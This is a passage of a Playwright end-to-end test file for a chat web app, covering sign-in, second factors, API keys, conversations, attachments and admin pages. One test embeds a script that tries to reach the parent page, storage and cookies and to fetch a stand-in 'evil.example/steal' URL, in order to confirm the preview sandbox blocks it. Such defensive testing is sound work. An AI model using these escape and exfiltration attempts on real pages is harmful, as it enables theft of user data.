	await page.getByRole("dialog").getByRole("button", { name: "Sign out everywhere" }).click();
	await page.locator('input[autocomplete="current-password"]').waitFor();
	await other.goto(`${URL_BASE}/settings`);
	await other.locator('input[autocomplete="current-password"]').waitFor();

	// forgotten: the link comes by mail
	if (!process.env.WEIR_MAIL) return;
	await page.goto(`${URL_BASE}/forgot`);
	await page.locator('input[type="email"]').fill(user.email);
	await page.getByRole("button", { name: "Send link" }).click();
	await page.getByText("Look into your mail").waitFor();
	const link = await until(() => mailedLink(user.email), "the mail");
	await page.goto(URL_BASE + link);
	await page.locator('input[autocomplete="new-password"]').fill("the third password");
	await page.getByRole("button", { name: "Change password" }).click();
	await page.waitForURL("**/signin"); // it is changed
	await signIn(page, user.email, "the third password");
	await page.goto(URL_BASE + link);
	await page.reload();
	await page.locator('input[autocomplete="new-password"]').fill("the fourth password");
	await page.getByRole("button", { name: "Change password" }).click();
	await page.getByText("This link or code is not valid or has expired.").waitFor();
});

/** RFC 6238, as an app on a phone makes it. */
function codeOf(secret) {
	const bits = [...secret].map((c) => "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567".indexOf(c).toString(2).padStart(5, "0")).join("");
	const key = Buffer.from(bits.match(/.{8}/g).map((b) => parseInt(b, 2)));
	const step = Buffer.alloc(8);
	step.writeBigUInt64BE(BigInt(Math.floor(Date.now() / 30_000)));
	const mac = createHmac("sha1", key).update(step).digest();
	return String((mac.readUInt32BE(mac[19] & 15) & 0x7fffffff) % 1_000_000).padStart(6, "0");
}

journey("a second factor: turned on, signed out, signed in with a code", async () => {
	const user = await newUser();
	const page = await newPage();
	await signIn(page, user.email);
	await page.goto(`${URL_BASE}/settings/password`);
	await page.getByRole("button", { name: "Turn on" }).click();
	await page.getByLabel("Current password", { exact: true }).first().fill(PASSWORD);
	await page.getByRole("button", { name: "Go on" }).click();
	await page.getByRole("img", { name: "QR code for an authenticator app" }).waitFor();
	await look(page, "second-factor");
	await accessible(page, "second factor");
	const secret = (await page.locator("code").innerText()).replaceAll(" ", "");
	await page.getByLabel("Code of the app").fill(codeOf(secret));
	await page.getByRole("button", { name: "Turn on" }).click();
	const codes = page.getByRole("list", { name: "Recovery codes" }).getByRole("listitem");
	await codes.first().waitFor();
	const [recovery] = await codes.allInnerTexts();
	await look(page, "recovery-codes");
	await page.getByRole("button", { name: "I have kept them" }).click();
	await page.getByText("10 recovery codes are left").waitFor();

	await page.goto(`${URL_BASE}/settings/account`);
	await page.getByRole("button", { name: "Sign out" }).click();
	const password = page.locator('input[autocomplete="current-password"]');
	await password.waitFor();
	await page.locator('input[autocomplete="username"]').fill(user.email);
	await password.fill(PASSWORD);
	await page.getByRole("button", { name: "Sign in", exact: true }).click();
	await page.getByText("One more step").waitFor();
	await look(page, "sign-in-code");
	await accessible(page, "code");
	await page.getByLabel("Code").fill("nonsense");
	await page.getByRole("button", { name: "Sign in", exact: true }).click();
	await page.getByRole("alert").waitFor();
	// The code of these 30 seconds was used to turn it on: a recovery code needs no waiting.
	await page.getByLabel("Code").fill(recovery);
	await page.getByRole("button", { name: "Sign in", exact: true }).click();
	await page.getByRole("tab", { name: "Account" }).waitFor(); // where the sign-out was
	await page.goto(`${URL_BASE}/settings/password`);
	await page.getByText("9 recovery codes are left").waitFor();
});

function mailedLink(to) {
	const folder = process.env.WEIR_MAIL;
	for (const name of readdirSync(folder).filter(name => name.endsWith(".eml"))) { // one that is being written has another name
		const mail = readFileSync(`${folder}/${name}`, "utf8");
		if (!mail.includes(to)) continue;
		const [head, ...body] = mail.split(/\r?\n\r?\n/);
		const text = /base64/i.test(head) ? Buffer.from(body.join(""), "base64").toString() : body.join("\n").replace(/=\r?\n/g, "").replace(/=3D/g, "=");
		const found = /\/reset#token=[\w.-]+/.exec(text);
		if (found) return found[0];
	}
	return null;
}

const KEY_TEXT = {
	en: { add: "New API key", create: "Create key", name: "Name", some: "Chosen ones", budget: "Budget in credits", period: "It begins anew", expires: "Expires", copy: "Copy", copied: "Copied", kept: "I have copied it", rotate: "Rotate", overlap: "The old key ends", revoke: "Revoke", remove: "Delete", replaced: "Replaced", revoked: "Revoked", none: "No API keys yet" },
	zh: { add: "新建 API 密钥", create: "创建密钥", name: "名称", some: "指定模型", budget: "预算（积分）", period: "重置周期", expires: "有效期", copy: "复制", copied: "已复制", kept: "我已复制", rotate: "轮换", overlap: "旧密钥失效时间", revoke: "吊销", remove: "删除", replaced: "已替换", revoked: "已吊销", none: "还没有 API 密钥" },
};

for (const way of CORNERS)
	journey(`API keys: made, shown once, rotated, revoked, removed (${way.name})`, async () => {
		const user = await newUser();
		const page = await newPage(way);
		const words = KEY_TEXT[way.language];
		const dialog = page.getByRole("dialog");
		const quota = (key) => api("GET", "/api/me/quota", { token: key });
		const act = async (row, what) => {
			await row.locator('button[aria-haspopup="menu"]').click();
			await page.getByRole("menuitem", { name: what, exact: true }).click();
		};
		await signIn(page, user.email, PASSWORD, "/settings/keys");
		await page.getByText(words.none).waitFor();
		await page.locator("pre .hljs-keyword").first().waitFor();
		await look(page, `keys-none-${way.name}`);

		// made, with limits
		await page.getByRole("button", { name: words.add }).click();
		equal(await dialog.getByRole("button", { name: words.create }).isEnabled(), false, "a key without a name");
		await dialog.getByLabel(words.name, { exact: true }).fill("My editor");
		await dialog.getByLabel(words.expires).selectOption("30");
		await dialog.getByText(words.some).click();
		await dialog.getByRole("checkbox").first().check();
		await dialog.getByLabel(words.budget).fill("five");
		await dialog.getByRole("button", { name: words.create }).click();
		await dialog.getByRole("alert").waitFor();
		await dialog.getByLabel(words.budget).fill("5");
		await dialog.getByLabel(words.period).selectOption("day");
		await look(page, `keys-create-${way.name}`);
		await dialog.getByRole("button", { name: words.create }).click();

		// shown once
		const key = await dialog.getByTestId("new-key").innerText();
		holds(/^wk-[0-9A-Za-z]{33}$/.test(key), `${key} is a key`);
		await dialog.locator("pre .hljs-keyword").first().waitFor();
		await dialog.getByRole("button", { name: words.copy, exact: true }).click();
		await dialog.getByRole("button", { name: words.copied }).first().waitFor();
		equal(await page.evaluate(() => navigator.clipboard.readText()), key, "what was copied");
		for (const sdk of ["OpenAI", "Anthropic", "Google"]) {
			await dialog.getByText(sdk, { exact: true }).click();
			for (const language of ["Python", "Node"]) {
				await dialog.getByText(language, { exact: true }).click();
				const code = await dialog.locator("pre").innerText();
				holds(code.includes(key) && code.includes(URL_BASE), `${sdk}, ${language}: key and address`);
			}
		}
		await look(page, `keys-made-${way.name}`);
		await dialog.getByRole("button", { name: words.kept }).click();
		await dialog.waitFor({ state: "detached" });
		holds(!(await page.content()).includes(key), "the key is gone from the page");
		const { status, json } = await quota(key);
		equal(status, 200, "a call with the key");
		equal(json.keys[0].budget.left, 5, "its budget");
		const rows = page.locator("#settings-panel li");
		await rows.getByText("My editor").waitFor();
		await look(page, `keys-${way.name}`);

		// rotated: both are accepted until the overlap is over
		await act(rows.first(), words.rotate);
		await dialog.getByLabel(words.overlap).selectOption("3600");
		await look(page, `keys-rotate-${way.name}`);
		await dialog.getByRole("button", { name: words.rotate, exact: true }).click();
		const next = await dialog.getByTestId("new-key").innerText();
		await page.keyboard.press("Escape");
		await rows.getByText(words.replaced).waitFor();
		equal((await quota(key)).status, 200, "the old key, in its overlap");
		equal((await quota(next)).status, 200, "the new key");
		await look(page, `keys-rotated-${way.name}`);

		// revoked, removed
		await act(rows.nth(1), words.revoke);
		await dialog.getByRole("button", { name: words.revoke, exact: true }).click();
		await rows.getByText(words.revoked).waitFor();
		equal((await quota(key)).status, 401, "a revoked key");
		await act(rows.first(), words.remove);
		await dialog.getByRole("button", { name: words.remove, exact: true }).click();
		await until(async () => (await rows.count()) === 1, "one key is left");
		equal((await quota(next)).status, 401, "a removed key");
	});

journey("the sidebar: search, rename, delete", async () => {
	const user = await newUser();
	const page = await newPage();
	await signIn(page, user.email);
	await page.getByText("No conversations yet").waitFor();
	await chooseModel(page, "demo-fast");
	for (const name of ["Alpha", "Beta"]) {
		await page.locator("aside a[href='/']").click();
		await send(page, `${name} matters`);
		await waitAnswer(page, 1);
	}
	const items = page.locator("aside nav li[data-row=conversation]");
	await until(async () => (await items.count()) === 2, "two conversations");
	await page.getByRole("searchbox").fill("alph");
	await until(async () => (await items.count()) === 1, "one found");
	await page.getByRole("searchbox").fill("nothing like it");
	await page.getByText("Nothing found").waitFor();
	await page.getByRole("searchbox").fill("");
	await page.locator("aside a", { hasText: "Alpha" }).click({ button: "right" });
	await look(page, "context-menu");
	await page.getByRole("menuitem", { name: "Rename" }).click();
	await page.keyboard.type("Gamma");
	await page.keyboard.press("Enter");
	await page.locator("aside a", { hasText: "Gamma" }).waitFor();
	await page.locator("aside li", { hasText: "Gamma" }).getByRole("button").click();
	await page.getByRole("menuitem", { name: "Delete" }).click();
	await until(async () => (await items.count()) === 1, "one left");
	// a message, with confirmation too
	await page.locator("aside a", { hasText: "Beta" }).click();
	await waitAnswer(page, 1);
	await fromMenu(page, answers(page).first(), "Delete message");
	await page.getByRole("dialog").getByRole("button", { name: "Delete" }).click();
	await until(async () => (await answers(page).count()) === 0, "the answer is gone");
});

for (const way of CORNERS)
	journey(`order: pinned, in a folder, archived, several deleted and had back (${way.name})`, async () => {
		const [w, app] = ["order.", ""].map((part) => JSON.parse(readFileSync(new URL(`../../web/src/i18n/${part}${way.language}.json`, import.meta.url), "utf8")));
		const words = w.order;
		const user = await newUser();
		const { token } = user;
		for (const title of ["One", "Two", "Three", "Four"]) {
			const messages = [{ role: "user", content: title }, { role: "assistant", content: "So it is." }];
			equal((await api("POST", "/api/import/conversation", { token, json: { title, messages } })).status, 201, "a conversation");
		}
		const listed = async (query = "") => (await api("GET", `/api/conversations?${query}`, { token })).json.items.map((c) => c.title).sort().join();
		const page = await newPage(way);
		await signIn(page, user.email);
		await openSidebar(page, way);
		const rows = page.locator("aside nav li[data-row=conversation]");
		const row = (title) => rows.filter({ hasText: new RegExp(`^${title}$`) });
		const act = async (title, name) => {
			await page.getByRole("button", { name: app.sidebar.menu_of.replace("{{title}}", title) }).click();
			await page.getByRole("menuitem", { name, exact: true }).click();
		};
		const undo = (what) => page.getByRole("status").filter({ hasText: what }).getByRole("button", { name: words.undo }).last();
		await until(async () => (await rows.count()) === 4, "four conversations");

		await act("One", words.pin);
		await page.locator("aside h2", { hasText: words.pinned }).waitFor();
		await until(async () => (await listed("view=pinned")) === "One", "one is pinned");

		await page.locator("aside nav").getByRole("button", { name: words.new_folder }).click();
		await page.getByLabel(words.name, { exact: true }).fill("Work");
		await page.keyboard.press("Enter");
		const folder = page.locator("aside nav li[data-row=folder]");
		await folder.waitFor();
		if (way.phone) {
			await act("Two", words.move);
			await look(page, `move-${way.name}`);
			await page.getByRole("dialog").getByRole("button", { name: "Work" }).click();
		} else await row("Two").locator("a").dragTo(folder);
		await until(async () => (await row("Two").count()) === 0, "it has left the list");
		await look(page, `order-${way.name}`);
		await folder.getByRole("button").first().click();
		await row("Two").waitFor();
		equal(await rows.count(), 1, "what is in the folder");
		await page.getByRole("button", { name: words.back }).click();

		await act("Three", words.archive);
		await undo(/Archived|已归档/).click();
		await row("Three").waitFor();
		await act("Three", words.archive);
		await until(async () => (await listed("view=archived")) === "Three", "one is archived");
		await page.locator("aside nav li[data-row=archived] button").click();
		await row("Three").waitFor();
		await page.getByRole("button", { name: words.back }).click();

		await act("One", words.select);
		await page.getByRole("checkbox", { name: words.select_one.replace("{{title}}", "Four") }).click();
		await page.getByRole("toolbar").getByText("2", { exact: false }).waitFor();
		await look(page, `selected-${way.name}`);
		await page.getByRole("toolbar").getByRole("button", { name: app.common.delete }).click();
		await until(async () => (await rows.count()) === 0, "both are gone");
		await undo(/deleted|已删除/).click();
		await until(async () => (await rows.count()) === 2, "both are back");
		await act("One", words.select);
		await page.getByRole("checkbox", { name: words.select_one.replace("{{title}}", "Four") }).click();
		await page.getByRole("toolbar").getByRole("button", { name: app.common.delete }).click();
		await until(async () => (await rows.count()) === 0, "both are gone again");
		// who leaves the page does not take it back
		await page.goto("about:blank");
		await until(async () => (await listed()) === "Two", "deleted on the server", 30_000);
	});

journey("a temporary chat is in no list, is paid for, and goes when it is left", async () => {
	const user = await newUser();
	const { token } = user;
	const page = await newPage();
	await signIn(page, user.email);
	await chooseModel(page, "demo-fast");
	await page.getByRole("button", { name: "Temporary chat" }).click();
	await page.getByRole("note").waitFor();
	await send(page, "Nobody is to know");
	await waitAnswer(page, 1);
	await page.getByRole("note").getByRole("button", { name: "Keep" }).waitFor();
	await look(page, "temporary");
	const id = page.url().split("/c/")[1];
	holds((await api("GET", `/api/conversations/${id}`, { token })).json.temporary_until, "it is temporary");
	equal((await api("GET", "/api/conversations", { token })).json.items.length, 0, "what is listed");
	equal(await page.locator("aside nav li[data-row=conversation]").count(), 0, "in the sidebar");
	await page.locator("aside a[href='/']").click();
	await until(async () => (await api("GET", `/api/conversations/${id}`, { token })).status === 404, "it is gone", 30_000);
	equal(await page.getByRole("note").count(), 0, "the next one is not temporary by itself");
	const history = (await api("GET", "/api/me/credits/history", { token })).json.items;
	holds(history.some((h) => h.change_type === "chat_cost"), "it was paid for");
	// and one that is kept
	await page.getByRole("button", { name: "Temporary chat" }).click();
	await send(page, "Worth keeping");
	await waitAnswer(page, 1);
	await page.getByRole("note").getByRole("button", { name: "Keep" }).click();
	await page.locator("aside nav li[data-row=conversation]", { hasText: "Worth keeping" }).waitFor();
	await page.locator("aside a[href='/']").click();
	equal((await api("GET", "/api/conversations", { token })).json.items.length, 1, "it stays");
});

journey("everything works by keyboard", async () => {
	const user = await newUser();
	const page = await newPage();
	await signIn(page, user.email);
	await input(page).focus();
	await page.keyboard.type("First line");
	await page.keyboard.press("Shift+Enter");
	await page.keyboard.type("second line");
	equal(await input(page).inputValue(), "First line\nsecond line", "Shift+Enter");
	await chooseModelByKeys(page);
	await input(page).focus();
	await page.keyboard.press("Enter");
	await liveAnswer(page).locator(".prose").waitFor();
	await page.keyboard.press("Escape");
	await waitAnswer(page, 1);
	// Tab goes round everything and shows where it is
	let visible = 0;
	for (let i = 0; i < 25; i += 1) {
		await page.keyboard.press("Tab");
		visible += await page.evaluate(() => {
			const el = document.activeElement;
			if (!el || el === document.body) return 1;
			const style = getComputedStyle(el);
			const ring = style.outlineStyle !== "none" && parseFloat(style.outlineWidth) > 0;
			return ring || el.tagName === "TEXTAREA" || el.tagName === "INPUT" ? 1 : 0;
		});
	}
	equal(visible, 25, "stops with a visible focus");

	async function chooseModelByKeys(p) {
		await p.locator('button[aria-haspopup="listbox"]').focus();
		await p.keyboard.press("Enter");
		await p.getByRole("option", { selected: true }).waitFor();
		await p.keyboard.press("End");
		await p.keyboard.press("Enter");
		await until(async () => (await p.locator('button[aria-haspopup="listbox"]').innerText()).includes("demo-slow"), "the model chosen by keys");
	}
});

journey("a fast, long answer is drawn smoothly, and the reader may scroll away", async () => {
	const user = await newUser();
	const page = await newPage();
	await signIn(page, user.email);
	await chooseModel(page, "demo-fast");
	await page.evaluate(() => {
		window.gaps = [];
		let last = performance.now();
		(function frame() {
			const now = performance.now();
			window.gaps.push(now - last);
			last = now;
			requestAnimationFrame(frame);
		})();
	});
	await send(page, "[[demo deltas=1200 pace=200 bytes=90]] A hundred kilobytes");
	await liveAnswer(page).locator(".prose").waitFor();
	await page.waitForTimeout(2_000);
	await page.getByTestId("messages").hover();
	await page.mouse.wheel(0, -600);
	await page.getByRole("button", { name: "To the bottom" }).waitFor();
	const top = await page.getByTestId("messages").evaluate((el) => el.scrollTop);
	await page.waitForTimeout(600);
	equal(await page.getByTestId("messages").evaluate((el) => el.scrollTop), top, "the place of a reader who scrolled away");
	await page.getByRole("button", { name: "To the bottom" }).click();
	await waitAnswer(page, 1, "success", 60_000);
	const { gaps, length } = await page.evaluate(() => ({ gaps: window.gaps, length: document.querySelector(".prose").innerText.length }));
	holds(length > 90_000, `the answer has ${length} characters`);
	const sorted = [...gaps].sort((a, b) => a - b);
	const p95 = sorted[Math.floor(sorted.length * 0.95)];
	console.log(`# frames: ${gaps.length}, p95 ${p95.toFixed(0)} ms, longest ${sorted.at(-1).toFixed(0)} ms`);
	holds(p95 < 120, `the 95th of 100 frames took ${p95} ms`);
	await until(async () => page.getByTestId("messages").evaluate((el) => el.scrollHeight - el.scrollTop - el.clientHeight < 60), "the end is in view");
}, { alone: true });

journey("a picture is attached, shown and sent", async () => {
	const user = await newUser();
	const page = await newPage();
	await signIn(page, user.email);
	await chooseModel(page, "demo-fast");
	const png = Buffer.from("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==", "base64");
	// several at once, of which each can be taken away again
	const files = [0, 1, 2].map((n) => ({ name: `dot-${n}.png`, mimeType: "image/png", buffer: Buffer.concat([png, Buffer.alloc(n)]) }));
	await page.locator('input[type="file"][multiple]').setInputFiles(files);
	await until(async () => (await page.getByRole("button", { name: "Remove attachment" }).count()) === 3, "all three are there");
	await page.getByRole("button", { name: "Remove attachment" }).first().click();
	await send(page, "What is in this picture?");
	await waitAnswer(page, 1);
	const picture = page.locator("article").first().locator("img").first();
	equal(await page.locator("article").first().locator("img").count(), 2, "pictures of the question");
	await until(() => picture.evaluate((img) => img.complete && img.naturalWidth > 0), "the picture is drawn");
	await page.getByRole("button", { name: "Enlarge image" }).first().click();
	await page.getByRole("dialog").locator("img").waitFor();
	await page.getByRole("button", { name: "Zoom in" }).click();
	await look(page, "picture");
	await page.keyboard.press("Escape");
	// another kind of file is refused with its reason
	await page.locator('input[type="file"][multiple]').setInputFiles({ name: "evil.png", mimeType: "image/png", buffer: Buffer.from("<html>") });
	await page.getByRole("alert").waitFor();
	// pasted
	await input(page).evaluate((area, bytes) => {
		const data = new DataTransfer();
		data.items.add(new File([new Uint8Array(bytes)], "pasted.png", { type: "image/png" }));
		area.dispatchEvent(new ClipboardEvent("paste", { clipboardData: data, bubbles: true, cancelable: true }));
	}, [...png]);
	await page.getByRole("button", { name: "Remove attachment" }).waitFor();
});

journey("a document is read, goes along with the question, and may go into a base instead", async () => {
	const user = await newUser();
	const page = await newPage();
	await api("POST", "/api/knowledge", { token: user.token, json: { name: "Rivers" } });
	await signIn(page, user.email);
	await chooseModel(page, "demo-fast");
	const files = page.locator('input[type="file"][multiple]');
	const chip = (name) => page.locator("li[data-state]").filter({ hasText: name });
	const state = (name, wanted) => page.locator(`li[data-state="${wanted}"]`).filter({ hasText: name }).waitFor({ timeout: 60_000 });
	// one that cannot be read says why, and nothing is sent before it is away
	await files.setInputFiles([
		{ name: "gates.md", mimeType: "text/markdown", buffer: Buffer.from("# Gates\n\nGate 7 opens at 3 metres.\n") },
		{ name: "broken.pdf", mimeType: "application/pdf", buffer: Buffer.from("%PDF-1.4\n%%EOF") },
	]);
	await state("gates.md", "ready");
	await state("broken.pdf", "failed");
	holds((await chip("broken.pdf").innerText()).includes("damaged"), "it says why");
	await input(page).fill("When does gate 7 open? [[demo echo=1]]");
	holds(await page.getByRole("button", { name: "Send", exact: true }).isDisabled(), "it cannot be sent");
	await look(page, "documents");
	await page.setViewportSize({ width: 390, height: 844 });
	await look(page, "documents-phone");
	await page.setViewportSize({ width: 1280, height: 800 });
	await chip("broken.pdf").getByRole("button", { name: /^Remove/ }).click();
	// another goes into a base, which the conversation looks into
	await files.setInputFiles({ name: "rivers.txt", mimeType: "text/plain", buffer: Buffer.from("Rivers run to the sea.") });
	await state("rivers.txt", "ready");
	await chip("rivers.txt").getByRole("button", { name: /knowledge base/ }).click();
	await page.getByRole("dialog").getByRole("button", { name: "Rivers" }).click();
	await chip("rivers.txt").waitFor({ state: "detached" });
	equal(await page.locator("[data-knowledge]").getAttribute("data-knowledge"), "1", "bases of the conversation");
	await page.getByRole("button", { name: "Send", exact: true }).click();
	const answer = await waitAnswer(page, 1);
	holds((await answer.innerText()).includes('document 1, "gates.md"'), "the question named its document");
	const question = page.locator("article").first();
	await question.getByText("gates.md").waitFor();
	await page.reload();
	await question.getByText("gates.md").waitFor();
	await look(page, "document-sent");
});

journey("diagrams are drawn, and a page opens beside the conversation, where it can do no harm", async () => {
	const user = await newUser();
	const page = await newPage();
	await signIn(page, user.email);
	await chooseModel(page, "demo-fast");
	const asked = [];
	page.on("request", (r) => asked.push(r.url()));
	const TRIES = `
const out = [];
const attempt = (name, act) => { try { act(); out.push(name); } catch { out.push("no " + name); } };
attempt("parent", () => parent.document.title);
attempt("storage", () => localStorage.length);
attempt("cookie", () => { document.cookie = "a=1"; if (document.cookie === "") throw 0; });
fetch("https://evil.example/steal").then(() => out.push("net"), () => out.push("no net")).then(() => { document.getElementById("a").textContent = out.join(", "); });
`;
	const level = (n) => "```html\n<!doctype html>\n<title>Gauge</title>\n<h1>Level " + n + "</h1>\n<p id=a>waiting</p>\n<script>" + TRIES + "</script>\n```\n";
	await send(page, "[[demo echo=1]] Here:\n\n```mermaid\ngraph TD\n  A[Spring] --> B[Weir]\n  B --> C[Sea]\n```\n\n```mermaid\ngraph TD\n  A --\n```\n\n" + level(1));
	const answer = await waitAnswer(page, 1);
	const drawn = answer.locator("[data-diagram=drawn] img");
	await drawn.waitFor({ timeout: 60_000 });
	await until(() => drawn.evaluate((img) => img.complete && img.naturalWidth > 50), "the diagram is drawn");
	await answer.getByText(/cannot be drawn/).waitFor({ timeout: 60_000 });
	const [picture] = await Promise.all([page.waitForEvent("download"), answer.getByRole("button", { name: "Save as PNG" }).click()]);
	equal(picture.suggestedFilename(), "diagram.png", "the file's name");
	await answer.getByRole("button", { name: "Enlarge the diagram" }).first().click();
	await page.getByRole("dialog").locator("img").waitFor();
	await page.keyboard.press("Escape");

	await answer.getByRole("button", { name: "Open the preview" }).click();
	const panel = page.locator("aside[data-artifact]");
	const inside = page.frameLocator('iframe[title="Gauge"]');
	await inside.getByText("no parent, no storage, no cookie, no net").waitFor({ timeout: 60_000 });
	equal(asked.filter((u) => u.includes("evil.example")).length, 0, "requests to another host");
	page.problems = page.problems.filter((p) => !p.includes("evil.example")); // the browser tells of what it kept from the page
	await shot(page, "artifact");
	// the next answer's is its next version
	await send(page, "[[demo echo=1]] And now:\n\n" + level(2));
	await waitAnswer(page, 2);
	await panel.getByText("1/2", { exact: true }).waitFor();
	await panel.getByRole("button", { name: "Later version" }).click();
	await inside.getByText("Level 2").waitFor({ timeout: 60_000 });
	await panel.getByText("Source", { exact: true }).click();
	holds((await panel.locator("pre").innerText()).includes("Level 2"), "its source");
	const [file] = await Promise.all([page.waitForEvent("download"), panel.getByRole("button", { name: "Save", exact: true }).click()]);
	equal(file.suggestedFilename(), "Gauge.html", "the file's name");
	await look(page, "artifact-source");
	await page.setViewportSize({ width: 390, height: 844 });
	await page.emulateMedia({ colorScheme: "dark" });
	await look(page, "artifact-phone");
	await page.keyboard.press("Escape");
	await panel.waitFor({ state: "detached" });
	await drawn.waitFor({ timeout: 60_000 });
	await drawn.scrollIntoViewIfNeeded();
	await look(page, "diagram-dark");
	page.problems = page.problems.filter((p) => !p.includes("evil.example"));
});

// -- the operator

journey("an admin grants credits, and the user's balance changes live", async () => {
	const user = await newUser("Poor soul");
	const before = await balanceOf(user);
	const theirs = await newPage();
	await signIn(theirs, user.email);
	await theirs.getByTestId("balance").waitFor();
	const page = await newPage();
	await signIn(page, process.env.WEIR_ADMIN_LOGIN, process.env.WEIR_ADMIN_PASSWORD, "/admin/users");
	await page.getByRole("searchbox").fill(user.email);
	await until(async () => (await page.locator("tbody tr").count()) === 1, "the user is found");
	await page.getByRole("button", { name: "Grant credits" }).click();
	await page.getByLabel("Amount").fill("123.5");
	await page.getByLabel("Reason").fill("a present");
	await page.getByRole("button", { name: "Save" }).click();
	await page.getByText(/New balance/).waitFor();
	await until(async () => (await theirs.getByTestId("balance").innerText()) === `${before + 123.5} credits`, "the balance of the user, live");
	await theirs.goto(`${URL_BASE}/settings/balance`);
	await theirs.getByText("a present").waitFor();
	// an ordinary user has no business here
	await theirs.goto(`${URL_BASE}/admin`);
	await theirs.getByText("For administrators only").waitFor();
});

for (const way of CORNERS)
	journey(`administration: models, channels, agents, pool (${way.name})`, async () => {
		const page = await newPage(way);
		const zh = way.language === "zh";
		await signIn(page, process.env.WEIR_ADMIN_LOGIN, process.env.WEIR_ADMIN_PASSWORD, "/admin/users");
		await page.locator("tbody tr").first().waitFor();
		await look(page, `admin-users-${way.name}`);
		await page.goto(`${URL_BASE}/admin`);
		await page.locator("dl").getByRole("link").first().waitFor();
		await page.locator("figure svg rect").first().waitFor({ state: "attached" }); // without height where nothing was charged
		await look(page, `admin-overview-${way.name}`);
		await page.goto(`${URL_BASE}/admin/models`);
		await page.locator("tbody tr").first().waitFor();
		await look(page, `admin-models-${way.name}`);
		await page.goto(`${URL_BASE}/admin/channels`);
		await page.locator("tbody tr").first().waitFor();
		await look(page, `admin-channels-${way.name}`);
		await page.getByRole("button", { name: zh ? "测试" : "Test", exact: true }).first().click();
		await page.getByText(zh ? /毫秒内响应/ : /answered in \d+ ms/).waitFor();

		// an agent: made, debugged, talked to
		const name = `Ferryman ${way.name} ${Date.now() % 10000}`;
		await page.goto(`${URL_BASE}/admin/agents`);
		await page.getByRole("button", { name: zh ? "新增" : "Add" }).click();
		const dialog = page.getByRole("dialog");
		await dialog.getByRole("textbox").nth(0).fill(name);
		await dialog.getByRole("textbox").nth(1).fill("Knows the river");
		await dialog.getByRole("textbox").nth(2).fill("You are a ferryman.");
		await look(page, `admin-agent-${way.name}`);
		await dialog.getByRole("button", { name: zh ? "保存" : "Save" }).click();
		const row = page.locator("tbody tr", { hasText: name });
		await row.waitFor();
		await row.getByRole("button", { name: zh ? "调试" : "Debug" }).click();
		await page.getByRole("button", { name: zh ? "路由测试" : "Route test" }).click();
		await dialog.locator("pre").waitFor();
		await dialog.getByRole("textbox").fill("How deep is it?");
		await page.getByRole("button", { name: zh ? "提示词预览" : "Prompt preview" }).click();
		await dialog.locator("pre", { hasText: "You are a ferryman." }).waitFor();
		await page.getByRole("button", { name: zh ? "执行测试" : "Run", exact: true }).click();
		await dialog.getByText(/^done/).waitFor({ timeout: 60_000 });
		await look(page, `admin-debug-${way.name}`);
		await page.keyboard.press("Escape");
		await page.goto(URL_BASE);
		await page.getByRole("button", { name, exact: true }).click();
		await send(page, "Take me across");
		await waitAnswer(page, 1);
		await page.goto(`${URL_BASE}/admin/pool`);
		await page.locator("tbody tr").first().waitFor();
		await page.waitForTimeout(4_500);
		await look(page, `admin-pool-${way.name}`);
		const { json } = await api("GET", "/api/admin/agents?limit=100", { token: await admin() });
		const made = json.items.find((a) => a.name === name);
		await api("DELETE", `/api/admin/agents/${made.id}`, { token: await admin() });
	});

for (const way of CORNERS)
	journey(`channels: keys, routes, a provider's models (${way.name})`, async () => {
		const words = JSON.parse(readFileSync(new URL(`../../web/src/i18n/channels.${way.language}.json`, import.meta.url), "utf8")).channels;
		const zh = way.language === "zh";
		const token = await admin();
		const { json } = await api("GET", "/api/admin/channels?limit=100", { token });
		const base_url = json.items.find((c) => c.name === "demo").base_url;
		const tag = `t${way.name}`;
		const made = [];
		await api("POST", "/api/admin/groups", { token, json: { name: "vip" } });
		for (const [n, more] of [
			{ priority: -7, keys: [{ key: "a", name: "first" }, { key: "b", name: "second" }] },
			{ priority: -8, groups: ["vip"], region: "eu", header_override: { "X-Team": "blue" }, keys: [{ key: "c" }] },
		].entries()) {
			const body = { name: `${tag}-${n}`, provider: "openai", base_url, allow_private: true, tag, models: [{ model: "demo" }], ...more };
			const r = await api("POST", "/api/admin/channels", { token, json: body });
			equal(r.status, 201, r.text);
			made.push(r.json);
		}
		const page = await newPage(way);
		await signIn(page, process.env.WEIR_ADMIN_LOGIN, process.env.WEIR_ADMIN_PASSWORD, "/admin/channels");
		const rows = page.locator("tbody tr");
		await page.getByRole("searchbox", { name: words.search }).fill(tag);
		await until(async () => (await rows.count()) === 2, "those of the tag");
		holds((await rows.first().innerText()).includes(`${tag}-0`), "the higher priority first");
		const priority = page.getByRole("columnheader", { name: zh ? "优先级" : "Priority" });
		equal(await priority.getAttribute("aria-sort"), "descending", "the order at first");
		await priority.getByRole("button").click();
		equal(await priority.getAttribute("aria-sort"), "ascending", "the order then");
		holds((await rows.first().innerText()).includes(`${tag}-1`), "the other way round");
		await look(page, `admin-channels-many-${way.name}`);

		const menu = async (entry) => {
			await rows.filter({ hasText: `${tag}-0` }).getByRole("button", { name: zh ? "操作" : "Actions" }).click();
			await page.getByRole("menuitem", { name: entry }).click();
		};
		await menu(words.keys);
		const dialog = page.getByRole("dialog");
		await dialog.getByLabel(words.key_name).fill("third");
		await dialog.getByLabel(words.new_key).fill("sk-third");
		await dialog.getByRole("button", { name: words.add_key }).click();
		await dialog.locator("tbody tr", { hasText: "third" }).waitFor();
		await dialog.locator("tbody tr", { hasText: "second" }).locator("label").click();
		await dialog.getByText(words.disabled).waitFor();
		await look(page, `admin-channel-keys-${way.name}`);
		await page.keyboard.press("Escape");
		await menu(zh ? "编辑" : "Edit");
		await dialog.getByRole("button", { name: words.fetch }).click();
		await dialog.getByRole("combobox", { name: `${words.map_to}: demo-fast` }).selectOption("demo-fast");
		await dialog.getByLabel(words.params).fill("{");
		await dialog.getByText(words.not_an_object).waitFor();
		await look(page, `admin-channel-${way.name}`);
		await dialog.getByLabel(words.params).fill('{"seed": 1}');
		await dialog.getByRole("button", { name: zh ? "保存" : "Save" }).click();
		await dialog.waitFor({ state: "detached" });
		const { json: saved } = await api("GET", `/api/admin/channels/${made[0].id}`, { token });
		equal(saved.models.length, 2, "the fetched model is served");
		equal(saved.param_override.seed, 1, "the override is kept");

		await page.goto(`${URL_BASE}/admin/route`);
		await page.getByLabel(zh ? "模型" : "Model", { exact: true }).selectOption("demo");
